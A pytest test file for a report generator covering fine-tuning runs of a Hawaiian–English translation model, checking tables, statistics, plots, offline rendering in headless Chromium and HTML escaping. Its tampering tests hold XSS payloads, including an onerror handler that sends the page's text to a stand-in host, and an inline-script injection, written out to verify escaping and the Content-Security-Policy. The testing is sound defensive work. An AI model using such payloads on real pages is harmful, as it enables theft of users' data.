"""make report: the page lists every run with its status, draws curves and sweeps,
shows baselines, CIs and A/B examples, the data checks, quotes nothing with
--no-text, is self-contained, and renders in headless Chromium with no network."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import olelo
from conftest import script
from olelo import plots
from olelo import report_page

REPO = Path(__file__).resolve().parents[1]
DONE, FAILED, KILLED = "large-m-it4-bs1-lr1e-5-r8-s0", "large-m-it4-bs1-lr1e-4-r8-s0", "small-m-it4-bs2-lr1e-5-r8-s0"
QUOTE = "Ua hele ke aliʻi i ka moku"  # a sentence of the fake data: must vanish with --no-text
EXCERPT = "an excerpt of a flagged pair"


def metrics(iters, val_chrf=False):
    rows = [{"type": "val", "iteration": i, "val_loss": 2.8 + 0.1 * abs(i - 2), **({"val_chrf": 10.0 + i} if val_chrf else {})}
            for i in range(0, iters + 1, 2)]
    rows += [{"type": "train", "iteration": i, "train_loss": 3.2 - 0.1 * i, "tokens_per_second": tps,
              "peak_memory": 0.1} for i, tps in ((2, 100.0 + iters), (4, 120.0 + iters))]
    return rows


def write_run(runs, adapters, stamp, status, pid=None, tps_offset=0, val_chrf=False, data_dir="data/finetuning/large"):
    run = runs / stamp
    manifest = {"stamp": stamp, "model": "models/m", "data_dir": str(data_dir),
                "adapter_dir": str(adapters / stamp), "iters": 4 + tps_offset, "status": status,
                "host": "elsewhere", "segments": [{"started": "2026-11-26T05:48:52+00:00"}],
                "git": {"commit": "0123456789abcdef", "dirty": False}}
    if pid is not None:
        import platform

        manifest.update(pid=pid, host=platform.node())
    if status == "failed":
        manifest["error"] = "RuntimeError: out of memory"
    if val_chrf:
        manifest["best"] = {"iteration": 2, "criterion": "val_loss", "val_loss": 2.8}  # as best.json below
    olelo.atomic_write_json(run / "manifest.json", manifest)
    olelo.atomic_write_jsonl(run / "metrics.jsonl", metrics(4 + tps_offset, val_chrf))
    return run


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    root = tmp_path_factory.mktemp("lab")
    runs, adapters, data = root / "runs", root / "adapters", root / "data"
    split = root / "split"  # the evaluated run's own test and train sets
    run = write_run(runs, adapters, DONE, "finished", val_chrf=True, data_dir=split)
    write_run(runs, adapters, FAILED, "failed", tps_offset=2)
    gone = subprocess.Popen(["true"])
    gone.wait()  # its pid is no process now: a 'running' run of this host is shown as stopped
    write_run(runs, adapters, KILLED, "running", pid=gone.pid, tps_offset=4)
    (runs / "latest").symlink_to(DONE)

    # A real evaluation of fake outputs: eval_report scores them.
    refs = ["The chief went to the ship.", "All the people wept.", "They will sail to Tahiti.", "Hello everyone."]
    sources = [QUOTE + ".", "Ua uwē ka poʻe a pau loa.", "E holo ana lākou i Kahiki.", "Aloha kākou."]
    outputs = {"base": sources, "ckpt-0000002": ["the the the chief", "people", "to Tahiti", "Hello"],
               "best": ["The chief went to the ship.", "All the people cried.", "They sail to Tahiti.", "Hello all."],
               "final": ["The chief went to a ship.", "The people wept.", "They sail.", "Hello everyone."]}
    olelo.atomic_write_jsonl(split / "test.jsonl", [olelo.chat_record(s, r, "haw-en", f"p{i}")
                                                   for i, (s, r) in enumerate(zip(sources, refs))])
    olelo.atomic_write_jsonl(split / "train.jsonl", [olelo.chat_record(f"Hale {i}.", f"A house, {i}.", "haw-en", f"t{i}")
                                                    for i in range(3)])
    eval_dir = run / "eval-n4"
    for name, hyps in outputs.items():
        olelo.atomic_write_jsonl(eval_dir / name / "hyps.jsonl", [
            {"id": f"p{i}", "source": s, "reference": r, "hypothesis": h} for i, (s, r, h) in
            enumerate(zip(sources, refs, hyps))])
    olelo.atomic_write_json(adapters / DONE / "best" / "best.json", {"iteration": 2, "val_loss": 2.8})
    proc = subprocess.run([sys.executable, "scripts/eval_report.py", "--run", str(run), "--eval-dir", str(eval_dir),
                           "--bootstrap", "50"], cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr[-2000:]

    olelo.atomic_write_json(data / "interim" / "haw-en" / "fornander.report.json", {
        "ratio": "en/haw chars", "options": {"min_ratio": 0.4, "max_ratio": 3.0},
        "counts": {"rows": 10, "pairs": 10, "kept": 9, "records": 9, "dropped_by_reason": {"duplicate": 1},
                   "flagged_misaligned": 1, "repaired": 0},
        "dropped": [{"line": 5, "pair_id": "pdup", "reason": "duplicate", "excerpt": EXCERPT}],
        "flagged": [{"line": 7, "pair_id": "pflag", "ratio": 5.2, "haw_chars": 10, "en_chars": 52,
                     "excerpt": EXCERPT}], "repaired": []})
    olelo.atomic_write_json(data / "finetuning" / "large" / "manifest.json", {
        "name": "large", "seed": 0, "counts": {s: {"records": n, "pairs": n} for s, n in
                                               (("train", 7), ("valid", 1), ("test", 1))},
        "common_test_from": "large", "common_test_sha256": "ab" * 32, "train_order": "by length"})
    olelo.atomic_write_json(data / "finetuning" / "mix-k3" / "manifest.json", {  # as mix_data.py writes it
        "made_by": "scripts/mix_data.py", "repeat": 3, "seed": 0, "counts": {"train": 13, "valid": 1, "test": 1}})
    return {"root": root, "runs": runs, "data": data, "eval_dir": eval_dir}


def report(*args, check=True) -> subprocess.CompletedProcess:
    """scripts/report.py, as make report runs it."""
    return script("report.py", *args, check=check)


def build(lab, *extra) -> str:
    out = lab["root"] / ("page-" + "-".join(e.strip("-") for e in extra) + ".html")
    report("--runs-dir", lab["runs"], "--data", lab["data"], "--out", out, *extra)
    return out


def test_runs_table_has_every_run_once_with_its_status(lab):
    page = build(lab).read_text()
    table = page[page.index('id="runs-table"'):page.index("</table>", page.index('id="runs-table"'))]
    for stamp in (DONE, FAILED, KILLED):
        assert table.count(f'href="#run-{stamp}"') == 1, stamp  # runs/latest is not a second run
    rows = {stamp: row for row in table.split("<tr")[2:] for stamp in (DONE, FAILED, KILLED) if stamp in row}
    assert rows[DONE].startswith(' class="ok"') and ">finished</span>" in rows[DONE]
    assert rows[FAILED].startswith(' class="bad"') and ">failed</span>" in rows[FAILED]
    assert rows[KILLED].startswith(' class="bad"') and ">stopped</span>" in rows[KILLED]
    assert "12.00 @2" not in rows[FAILED] and "14.00 @4" in rows[DONE]  # best validation chrF++
    assert "RuntimeError: out of memory" in page
    assert "best/ at iteration 2 (chosen on validation by val_loss)" in page


def test_evaluation_shows_headline_baselines_intervals_and_posthoc(lab):
    page = build(lab).read_text()
    summary = json.loads((lab["eval_dir"] / "summary.json").read_text())
    best = summary["checkpoints"]["best"]
    ci = best["vs_base"]["metrics"]["chrf"]["system"]["ci"]
    assert summary["headline"]["checkpoint"] == "best"
    assert f'<b>best</b> (headline: chosen on validation)' in page
    assert f"{best['chrf']:.2f} ±{ci:.2f}" in page
    assert "copy-source" in page and "Δ vs copy-source (p)" in page
    assert "post-hoc view" in page
    # A/B: base vs the headline, largest difference first.
    ab = page[page.index("<details>"):page.index("</details>")]
    deltas = [abs(float(d)) for d in re.findall(r'<td class="num"><span class="(?:pos|neg)">([-+0-9.]+)</span>', ab)]
    assert deltas == sorted(deltas, reverse=True) and len(deltas) == 4
    assert "A/B: base vs best" in ab and QUOTE in ab


def test_no_text_leaves_out_every_quoted_sentence(lab):
    full, bare = build(lab).read_text(), build(lab, "--no-text").read_text()
    for text in (QUOTE, EXCERPT):
        assert text in full and text not in bare
    assert all(s in bare for s in (DONE, FAILED, KILLED, "pflag", "duplicate"))


def test_page_is_self_contained(lab):
    page = build(lab).read_text()
    refs = re.findall(r'\b(?:src|href)\s*=\s*"([^"]*)"', page)
    assert refs and all(r.startswith("#") or r.startswith("data:image/png;base64,") for r in refs), \
        [r[:60] for r in refs if not r.startswith(("#", "data:"))]
    assert not re.search(r"url\(|@import|<link\b|<iframe\b", page)
    assert len(re.findall(r'<img alt="[^"]*" src="data:image/png;base64,', page)) == 3 + 1  # 3 runs' curves, 1 sweep
    assert "default-src 'none'" in page


def test_loss_figure_draws_validation_chrf_and_sweep_draws_intervals(lab):
    rows = metrics(4, val_chrf=True)
    fig = plots.loss_figure(rows, "t")
    assert len(fig.axes) == 2 and list(fig.axes[1].lines[0].get_ydata()) == [10.0, 12.0, 14.0]
    assert len(plots.loss_figure(metrics(4), "t").axes) == 1
    summary = json.loads((lab["eval_dir"] / "summary.json").read_text())
    ax = plots.sweep_figure(summary, "t").axes[0]
    ckpts = summary["checkpoints"]
    assert list(ax.lines[0].get_ydata()) == [ckpts["ckpt-0000002"]["chrf"], ckpts["final"]["chrf"]]
    hlines = {round(line.get_ydata()[0], 6) for line in ax.lines if list(line.get_xdata()) == [0, 1]}
    assert hlines == {round(summary["baselines"][b]["chrf"], 6)
                      for b in ("base", "copy-source", "translation-memory", "length-matched")}
    caps = ax.containers[0].lines[2][0].get_segments()  # the error bars: ± the bootstrap CI
    assert [round(s[1][1] - s[0][1], 6) for s in caps] == [
        round(2 * ckpts[n]["vs_base"]["metrics"]["chrf"]["system"]["ci"], 6) for n in ("ckpt-0000002", "final")]


def test_old_summaries_still_render(lab, tmp_path):
    # Summaries written before baselines existed: base among the checkpoints, best_by.
    runs = tmp_path / "runs"
    shutil.copytree(lab["runs"] / DONE, runs / DONE)
    path = runs / DONE / "eval-n4" / "summary.json"
    s = json.loads(path.read_text())
    s["checkpoints"] = {"base": s["baselines"]["base"], **s["checkpoints"]}
    s["best_by"] = {"chrf": "final"}
    for key in ("baselines", "headline", "test_posthoc"):
        s.pop(key)
    path.write_text(json.dumps(s))
    out = tmp_path / "index.html"
    report("--runs-dir", runs, "--data", tmp_path, "--out", out)
    page = out.read_text()
    assert "<b>best</b> (headline: chosen on validation)" in page and "final †" in page


def test_missing_runs_dir_is_one_clear_line(tmp_path):
    proc = subprocess.run([sys.executable, "scripts/report.py", "--runs-dir", str(tmp_path / "nope")], cwd=REPO,
                          capture_output=True, text=True)
    assert proc.returncode == 2 and proc.stderr.strip().splitlines() == [
        f"error: {tmp_path / 'nope'}: no such folder (train a run first, e.g. make demo)"]


# ---------------------------------------------------------------- in a browser


@pytest.fixture(scope="module")
def chromium():
    exe = shutil.which("chromium") or shutil.which("chromium-browser")
    if exe is None:
        if os.environ.get("OLELO_REQUIRE_CHROMIUM") == "1":
            pytest.fail("OLELO_REQUIRE_CHROMIUM=1 but no chromium on PATH (apt-get install chromium)")
        pytest.skip("chromium not installed (apt-get install chromium)")
    return exe


# The browser's own background traffic is turned off; what remains is the page's.
# --no-zygote: under load the zygote missed its start-up ping and Chromium aborted.
QUIET = ["--headless", "--no-sandbox", "--no-zygote", "--disable-gpu", "--hide-scrollbars", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions"]


def browse(chromium, url, tmp_path, *args):
    """(stdout, URLs the page asked the network for) of one headless Chromium load."""
    log = tmp_path / f"net-{len(list(tmp_path.glob('net-*')))}.json"
    proc = subprocess.run([chromium, *QUIET, f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={log}",
                           *args, url], capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr[-2000:]
    net = json.loads(log.read_text())
    start = net["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    page_requests = [e["params"]["url"] for e in net["events"] if e["type"] == start
                     and e["params"].get("network_isolation_key", "").startswith("file://")]
    return proc.stdout, [u for u in page_requests if not u.startswith(("file:", "data:"))]


def test_chromium_renders_the_runs_sorted_with_no_network(lab, chromium, tmp_path):
    page = build(lab)
    dom, requests = browse(chromium, f"file://{page}#sort=-tok_per_s", tmp_path, "--dump-dom")
    assert 'data-ready="1"' in dom  # the page's script ran to its end
    assert requests == []
    table = dom[dom.index('id="runs-table"'):]
    order = sorted((table.index(f'href="#run-{s}"'), s) for s in (DONE, FAILED, KILLED))
    assert [s for _, s in order] == [KILLED, FAILED, DONE]  # by median tok/s, highest first

    shot = tmp_path / "shot.png"
    browse(chromium, f"file://{page}", tmp_path, f"--screenshot={shot}", "--window-size=1200,1400")
    from PIL import Image

    pixels = Image.open(shot).convert("RGB")
    assert pixels.size == (1200, 1400)
    colors = pixels.getcolors(maxcolors=1 << 20)
    ink = sum(n for n, rgb in colors if sum(rgb) < 600) / (1200 * 1400)
    assert ink > 0.02, f"screenshot nearly blank ({ink:.1%} ink)"
    reds = sum(n for n, (r, g, b) in colors if r > 150 and g < 80 and b < 80)
    assert reds > 50  # the failed and stopped badges


def test_network_check_sees_an_outside_load_and_the_page_blocks_it(lab, chromium, tmp_path):
    probe = '<img src="http://example.invalid/probe.png">'
    plain = tmp_path / "plain.html"
    plain.write_text(f"<!DOCTYPE html><html><body>{probe}</body></html>")
    _, requests = browse(chromium, f"file://{plain}", tmp_path, "--dump-dom")
    assert requests == ["http://example.invalid/probe.png"]  # the check can fail
    tampered = tmp_path / "tampered.html"
    tampered.write_text(build(lab).read_text().replace("<h1>", probe + "<h1>", 1))
    _, requests = browse(chromium, f"file://{tampered}", tmp_path, "--dump-dom")
    assert requests == []  # the page's Content-Security-Policy refuses it


def test_make_report_writes_the_page(lab, run_make):
    out = run_make("report", f"RUNS_DIR={lab['runs']}", "NO_TEXT=1")
    page = (lab["runs"] / "report" / "index.html").read_text()
    assert DONE in page and "--no-text" in out.stdout


def test_results_md_names_baselines_the_headline_and_the_posthoc_row(lab, tmp_path):
    from olelo import results_tables

    def labels(runs):
        return [row.split(" | ")[3] for row in results_tables.evaluation_rows(runs, stand_in=False)]

    rows = results_tables.evaluation_rows(lab["runs"], stand_in=False)
    assert labels(lab["runs"]) == ["base", "copy-source", "translation-memory", "length-matched",
                                   "best (chosen on validation)"]
    summary = json.loads((lab["eval_dir"] / "summary.json").read_text())
    best = summary["checkpoints"]["best"]
    copy = best["vs_baselines"]["copy-source"]["metrics"]["chrf"]
    tm = best["vs_baselines"]["translation-memory"]["metrics"]["chrf"]
    assert rows[4].endswith(f"| {copy['delta']:+.2f} (p={copy['p_value']:.3f}) | "
                            f"{tm['delta']:+.2f} (p={tm['p_value']:.3f}) |")
    assert f"{best['chrf']:.2f} ±{best['vs_base']['metrics']['chrf']['system']['ci']:.2f}" in rows[4]
    # Here the validation choice also tops the test set; where another checkpoint does, it is named post hoc.
    runs = tmp_path / "runs"
    shutil.copytree(lab["runs"] / DONE, runs / DONE)
    path = runs / DONE / "eval-n4" / "summary.json"
    summary["test_posthoc"]["by_metric"]["chrf"] = "final"
    path.write_text(json.dumps(summary))
    assert labels(runs)[-1] == "final: top chrF++ on test (post hoc)"


def test_splits_table_lists_split_and_mix_datasets(lab):
    page = build(lab).read_text()
    splits = page[page.index("<h3>Splits</h3>"):]
    assert re.search(r"finetuning/large</td>.*?>7</td>", splits, re.S)
    assert re.search(r"finetuning/mix-k3</td>.*?>13</td>", splits, re.S)


# ---------------------------------------------------------------- crafted and damaged records

MARKUP = '<img src=x onerror="location=\'http://127.0.0.1:9/?\'+document.body.innerText">'


def crafted_lab(lab, tmp_path):
    """A copy of the lab's finished run, to be tampered with."""
    runs = tmp_path / "runs"
    shutil.copytree(lab["runs"] / DONE, runs / DONE)
    return runs, runs / DONE / "eval-n4" / "summary.json"


def test_a_string_iteration_in_a_summary_is_skipped_with_a_warning_never_markup(lab, tmp_path):
    runs, path = crafted_lab(lab, tmp_path)
    s = json.loads(path.read_text())
    s["checkpoints"]["best"]["iteration"] = MARKUP
    s["headline"]["iteration"] = MARKUP
    path.write_text(json.dumps(s))
    out = tmp_path / "index.html"
    proc = report("--runs-dir", runs, "--data", tmp_path, "--out", out, check=False)
    assert proc.returncode == 0
    page = out.read_text()
    assert "<img src=x" not in page and "onerror" not in page  # not even escaped: the evaluation is left out
    assert f'href="#run-{DONE}"' in page  # the run itself still shows
    assert "No evaluations yet" in page
    err = proc.stderr
    assert f"warning: skipped {path}: " in err and "is not a whole number" in err


def test_every_record_value_reaches_the_page_as_text(lab, tmp_path):
    runs, path = crafted_lab(lab, tmp_path)
    manifest_path = runs / DONE / "manifest.json"
    m = json.loads(manifest_path.read_text())
    m["model"], m["data_dir"], m["error"] = MARKUP, MARKUP, MARKUP
    m["best"]["criterion"] = MARKUP
    m["segments"][0]["started"] = MARKUP
    manifest_path.write_text(json.dumps(m))
    s = json.loads(path.read_text())
    s["model"], s["test_data"], s["headline"]["selected_on"] = MARKUP, MARKUP, MARKUP
    s["bootstrap"]["samples"] = MARKUP
    s["checkpoints"]["best"]["beyond_translation_memory"] = {"answer": MARKUP}
    path.write_text(json.dumps(s))
    out = tmp_path / "index.html"
    report("--runs-dir", runs, "--data", tmp_path, "--out", out)
    page = out.read_text()
    assert "<img src=x" not in page and "&lt;img src=x onerror=&quot;location=" in page
    assert page.count("&lt;img src=x") >= 8  # each of them, as text


def test_a_string_where_a_number_belongs_skips_that_record_only(lab, tmp_path):
    runs, _ = crafted_lab(lab, tmp_path)
    shutil.copytree(lab["runs"] / FAILED, runs / FAILED)
    rows = [json.loads(line) for line in (runs / FAILED / "metrics.jsonl").read_text().splitlines()]
    rows[0]["iteration"] = MARKUP
    olelo.atomic_write_jsonl(runs / FAILED / "metrics.jsonl", rows)
    out = tmp_path / "index.html"
    proc = report("--runs-dir", runs, "--data", tmp_path, "--out", out)
    page = out.read_text()
    assert f'href="#run-{DONE}"' in page and f'href="#run-{FAILED}"' not in page and "<img src=x" not in page
    assert f"warning: skipped {runs / FAILED}: metrics.jsonl: iteration" in proc.stderr


def test_esc_is_safe_in_attributes():
    assert report_page.esc('"\'<>&') == "&quot;&#x27;&lt;&gt;&amp;"
    assert report_page.esc(None) == ""


def test_the_pages_policy_runs_only_its_own_script(lab, chromium, tmp_path):
    # Escaping is the first wall; the second: the page's policy allows only the script it was
    # built with (by its hash), so markup that got in anyway could run nothing.
    page = build(lab).read_text()
    assert "'unsafe-inline'" not in page.split("script-src", 1)[1].split('"', 1)[0]
    beacon = '<img src="x.png" onerror="document.body.setAttribute(\'data-pwned\',\'1\')">'
    tampered = tmp_path / "tampered.html"
    tampered.write_text(page.replace("<h1>", beacon + "<script>document.body.setAttribute('data-pwned2','1')"
                                     "</script><h1>", 1))
    dom, _ = browse(chromium, f"file://{tampered}", tmp_path, "--dump-dom")
    body = re.search(r"<body[^>]*>", dom).group(0)
    assert 'data-ready="1"' in body  # its own script still runs
    assert "data-pwned" not in body, body  # neither of the others did


def test_summary_and_page_say_why_nothing_is_called_significant(lab):
    # 4 test sentences and 50 resamples: p-values are shown, none is called significant, and
    # the summary says why.
    summary = json.loads((lab["eval_dir"] / "summary.json").read_text())
    assert summary["too_small"].startswith("no difference is called significant: 4 test sentences")
    assert "50 bootstrap resamples" in summary["too_small"]
    rows = {**summary["baselines"], **summary["checkpoints"]}
    tested = [m for r in rows.values() for vs in [r.get("vs_base")] + list((r.get("vs_baselines") or {}).values())
              if vs for m in vs["metrics"].values() if m["p_value"] is not None]
    assert tested and not any(m["significant"] for m in tested)
    md = (lab["eval_dir"] / "summary.md").read_text()
    assert "**Too small to call a difference.** No difference is called significant: 4 test sentences" in md
    assert "significant)" not in md and ", significant" not in md and " beats " not in md
    page = build(lab).read_text()
    assert f'<p class="neg">{report_page.esc(summary["too_small"])}.</p>' in page
